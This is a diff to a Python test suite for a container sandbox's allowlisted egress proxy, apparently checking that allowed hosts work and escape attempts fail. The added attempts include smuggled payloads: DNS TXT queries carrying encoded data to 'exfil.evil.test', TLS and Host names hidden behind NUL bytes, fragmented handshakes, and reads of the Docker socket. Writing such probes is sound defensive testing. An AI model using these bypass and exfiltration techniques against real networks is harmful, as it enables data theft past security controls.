@@ -63,6 +63,31 @@ def _certificate(folder: Path) -> Path:
     return file
 
 
+MISTAKES = ("SyntaxError", "NameError", "TypeError", "ValueError", "AttributeError", "IndexError", "struct.error")
+"""An attempt that ends so was not stopped, it was written wrongly."""
+HELLO = """
+import socket, ssl
+context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
+out = ssl.MemoryBIO()
+try: context.wrap_bio(ssl.MemoryBIO(), out, server_hostname={name!r}).do_handshake()
+except ssl.SSLWantReadError: pass
+said = out.read()
+if {nul!r}: said = said.replace({nul!r}.encode(), b"\\0" + {nul!r}[1:].encode())
+with socket.create_connection(({to!r}, {port})) as s:
+    for at in range(0, len(said), 40): s.sendall(said[at:at + 40])
+    print(s.recv(300))
+"""
+ASK = """
+import socket, struct
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.connect(({to!r}, 53))
+name = b"".join(bytes([len(one)]) + one for one in {name!r}.encode().split(b"."))
+s.send(b"\\1\\2\\1\\0\\0\\1" + bytes(6) + name + b"\\0" + struct.pack("!HH", {kind}, 1))
+answers = struct.unpack_from("!H", s.recv(500), 6)[0]
+if not answers: raise LookupError("no answer")
+print(answers)
+"""
+
+
 class World:
     """A container outside, in the network that the server's way out leads to."""
 
@@ -77,12 +102,23 @@ class World:
             volumes=[f"{programs / 'world.py'}:/world.py:ro", f"{certificate}:/world.pem:ro"],
         )
         self._client.api.disconnect_container_from_network(self.container.id, "none")
-        self._client.api.connect_container_to_network(self.container.id, f"{workspace.name}-s_out", aliases=NAMES)
+        self._network = f"{workspace.name}-s_out"
+        self._join()
         self.container.start()
         until(lambda: b"ready" in self.container.logs(), "the world is there")
         self.container.reload()
         networks = self.container.attrs["NetworkSettings"]["Networks"]
         self.address: str = networks[f"{workspace.name}-s_out"]["IPAddress"]
+
+    def _join(self) -> None:
+        self._client.api.connect_container_to_network(self.container.id, self._network, aliases=NAMES)
+
+    def changes(self, workspace: Workspace) -> None:
+        """`up` while this stands aside: the network that it is in is made anew."""
+        self._client.api.disconnect_container_from_network(self.container.id, self._network, force=True)
+        workspace.up()
+        workspace.when_ready("s")
+        self._join()
 
     def close(self) -> None:
         with contextlib.suppress(docker.errors.NotFound):
@@ -177,14 +213,29 @@ def inside(workspace: Workspace, code: str, server: str = "s") -> str:
 
 def leg_of(workspace: Workspace, server: str = "s") -> str:
     """The address of the server's way out, inside."""
-    found = docker.from_env().api.inspect_container(f"{workspace.name}-{server}_leg")
-    return str(found["NetworkSettings"]["Networks"][f"{workspace.name}-{server}"]["IPAddress"])
+    return _addresses(f"{workspace.name}-{server}_leg")[f"{workspace.name}-{server}"]
+
+
+def outer_of(workspace: Workspace) -> str:
+    """The address of the server's way out, outside."""
+    return _addresses(f"{workspace.name}-s_leg")[f"{workspace.name}-s_out"]
+
+
+def _addresses(container: str) -> dict[str, str]:
+    with contextlib.closing(docker.from_env()) as client:
+        networks = client.api.inspect_container(container)["NetworkSettings"]["Networks"]
+    return {name: str(network["IPAddress"]) for name, network in networks.items()}
 
 
 def assert_allowed_works(workspace: Workspace) -> None:
     assert "world" in inside(workspace, TLS.format(to="api.allowed.test", port=443, name="api.allowed.test"))
     get = b"GET / HTTP/1.1\r\nHost: web.allowed.test:8080\r\n\r\n"
     assert "world" in inside(workspace, RAW.format(to="web.allowed.test", port=8080, data=get))
+    in_pieces = HELLO.format(to="api.allowed.test", port=443, name="api.allowed.test", nul="")
+    assert "raised" not in (said := inside(workspace, in_pieces)), said
+    assert said.strip() != "b''"
+    asked = ASK.format(to=leg_of(workspace), name="c2VjcmV0.wild.test", kind=1)
+    assert inside(workspace, asked).strip() == "1"
     first = "import socket; s = socket.create_connection(('db.allowed.test', 5432)); print(s.recv(100))"
     assert "world speaks first" in inside(workspace, first)
     assert "world" in inside(workspace, RAW.format(to="db.allowed.test", port=5432, data=b"x"))
@@ -231,9 +282,22 @@ def attempts(workspace: Workspace, world: World, host: Listener) -> dict[str, st
         "two Hosts": web("GET /", "web.allowed.test\r\nHost: denied.test"),
         "a whole address": web("GET http://denied.test/", "web.allowed.test"),
         "a tunnel": web("CONNECT denied.test:443", "denied.test"),
+        "an address with a name behind a NUL": web("GET /", f"{there}\0.wild.test"),
+        "a TLS name behind a NUL": HELLO.format(
+            to="web.allowed.test", port=8080, name=f"{there}a.wild.test", nul="a.w"
+        ),
+        "a hello in small pieces": HELLO.format(to="api.allowed.test", port=443, name="denied.test", nul=""),
         "bytes that name nobody": RAW.format(to="web.allowed.test", port=8080, data=b"\x00\x01hello\r\n\r\n"),
         "a wildcard that leads to a private network": web("GET /", "sub.wild.test"),
         "the engine's socket": "import os; print(os.listdir('/var/run'), open('/var/run/docker.sock'))",
+        "a text record for a message": ASK.format(to=leg, name="c2VjcmV0.exfil.evil.test", kind=16),
+        "a text record of an allowed name": ASK.format(to=leg, name="c2VjcmV0.wild.test", kind=16),
+        "datagrams to the way out": (
+            f"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); "
+            f"s.connect(({leg!r}, 443)); s.send(b'x'); s.send(b'x'); print(s.recv(10))"
+        ),
+        "the way out's other side": connect.format(outer_of(workspace), 20_002),
+        "the other way out": connect.format(leg_of(workspace, "t"), 53),
         "a raw socket": "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); print('raw')",
         "a packet socket": "import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW); print('raw')",
         "another route": (
@@ -262,6 +326,7 @@ def assert_none_succeeds(workspace: Workspace, world: World, host: Listener) -> 
     for name, said in asyncio.run(all_of_them()).items():
         escaped = "world" in said or "the host" in said or ("raised" not in said and said.strip() not in {"", "b''"})
         assert not escaped, f"{name}: {said}"
+        assert not any(mistake in said for mistake in MISTAKES), f"{name} was not tried: {said}"
     assert not world.was_asked
 
 
@@ -302,12 +367,56 @@ def test_when_the_way_out_is_gone_nothing_leaves_and_the_next_up_mends_it(worksp
     client.close()
 
 
-def test_another_list_takes_effect_and_needs_approval(workspace: Workspace) -> None:
+def test_another_list_waits_for_approval_and_then_takes_effect(workspace: Workspace, world: World) -> None:
     before = workspace.file.read_text()
-    workspace.save_text(before.replace("api.allowed.test:443", "api.allowed.test:444"))
-    workspace.run("up", "-d", code=6)
-    assert "api.allowed.test:444" in workspace.run("trust", code=None).stdout
+    first = "import socket; s = socket.create_connection(('db.allowed.test', 5432)); print(s.recv(100))"
+    workspace.save_text(before.replace("db.allowed.test:5432", "other.allowed.test:5432"))
+    refused = workspace.run("up", "-d", code=6)
+    assert "network of `s` needs your approval" in refused.stderr
+    assert "other.allowed.test:5432" in workspace.run("trust").stdout
+    assert "world" in inside(workspace, first)
+
+    workspace.run("trust", "--all")
+    world.changes(workspace)
+    assert "raised" in inside(workspace, first)
+    assert "world" in inside(workspace, first.replace("db.", "other."))
+
     workspace.save_text(before)
+    world.changes(workspace)
+    assert "world" in inside(workspace, first)
+
+
+def test_another_image_for_the_way_out_waits_for_approval(workspace: Workspace) -> None:
+    before = workspace.file.read_text()
+    assert f"pypi: {BASE_IMAGE}" in before
+    workspace.save_text(before.replace(f"pypi: {BASE_IMAGE}", "pypi: somebody/elses:1"))
+    workspace.run("up", "-d", code=6)
+    assert "somebody/elses:1" in workspace.run("trust").stdout
+    workspace.save_text(before)
+    workspace.up()
+
+
+def test_a_list_that_is_taken_away_takes_the_way_out_with_it(workspace: Workspace) -> None:
+    before = workspace.file.read_text()
+    servers = {
+        "s": program("prober.py", network={"allow": [*ALLOWED, WILD]}),
+        "t": program("prober.py", network="isolated"),
+    }
+    workspace.save(servers, runners={"pypi": BASE_IMAGE})
+    workspace.up()
+    workspace.when_ready("s", "t")
+
+    client = docker.from_env()
+    names = {one.name for one in client.containers.list(all=True)} | {one.name for one in client.networks.list()}
+    client.close()
+    own = f"{workspace.name}-t"
+    assert {name for name in names if name.startswith(own)} == {own, f"{own}-1"}
+    lookup = "import socket; print(socket.getaddrinfo('api.allowed.test', 443))"
+    assert "raised" in inside(workspace, lookup, "t")
+
+    workspace.save_text(before)
+    workspace.up()
+    workspace.when_ready("t")
 
 
 def test_down_leaves_nothing_of_it(workspace: Workspace, world: World) -> None:
